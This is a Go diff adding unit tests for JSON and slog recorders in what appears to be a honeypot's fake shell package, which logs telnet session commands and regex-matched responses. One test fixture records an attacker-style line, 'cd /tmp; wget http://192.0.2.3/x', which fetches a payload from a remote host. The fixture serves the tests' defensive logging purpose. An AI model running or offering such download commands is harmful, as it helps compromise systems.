@@ -0,0 +1,77 @@
+package shell
+
+import (
+	"bytes"
+	"encoding/json"
+	"log/slog"
+	"reflect"
+	"testing"
+	"time"
+)
+
+func TestJSONRecorder(t *testing.T) {
+	var output bytes.Buffer
+
+	recorder := NewJSONRecorder(&output)
+
+	records := []Record{
+		{
+			Time:       time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC),
+			RemoteAddr: "192.0.2.1:50000",
+			LocalAddr:  "192.0.2.2:23",
+			Line:       "cd /tmp; wget http://192.0.2.3/x",
+			Command:    "cd /tmp",
+			Match:      MatchBuiltin,
+		},
+		{
+			Time:     time.Date(2024, 1, 2, 3, 4, 6, 0, time.UTC),
+			Username: "root",
+			Line:     "uname -a",
+			Command:  "uname -a",
+			Match:    MatchCommand,
+			Regex:    "^uname",
+			Response: "Linux\r\n",
+		},
+	}
+
+	for _, record := range records {
+		if err := recorder.Record(nil, record); err != nil {
+			t.Fatalf("Did not expect an error, but actually got one: (%T) %v.", err, err)
+		}
+	}
+
+	decoder := json.NewDecoder(&output)
+
+	for testNumber, expected := range records {
+		var actual Record
+		if err := decoder.Decode(&actual); err != nil {
+			t.Fatalf("For test #%d, did not expect an error, but actually got one: (%T) %v.", testNumber, err, err)
+		}
+
+		if !reflect.DeepEqual(expected, actual) {
+			t.Errorf("For test #%d, expected %+v, but actually got %+v.", testNumber, expected, actual)
+		}
+	}
+}
+
+func TestSlogRecorder(t *testing.T) {
+	var output bytes.Buffer
+
+	recorder := NewSlogRecorder(slog.New(slog.NewJSONHandler(&output, nil)), slog.LevelInfo)
+
+	record := Record{Line: "foo", Command: "foo", Match: MatchNotFound, Status: 127, Response: "foo: not found\r\n"}
+	if err := recorder.Record(nil, record); err != nil {
+		t.Fatalf("Did not expect an error, but actually got one: (%T) %v.", err, err)
+	}
+
+	var actual map[string]any
+	if err := json.Unmarshal(output.Bytes(), &actual); err != nil {
+		t.Fatalf("Did not expect an error, but actually got one: (%T) %v.", err, err)
+	}
+
+	for key, expected := range map[string]any{"msg": "command", "match": "not found", "status": 127.0, "response": "foo: not found\r\n"} {
+		if actual[key] != expected {
+			t.Errorf("For %q, expected %v, but actually got %v.", key, expected, actual[key])
+		}
+	}
+}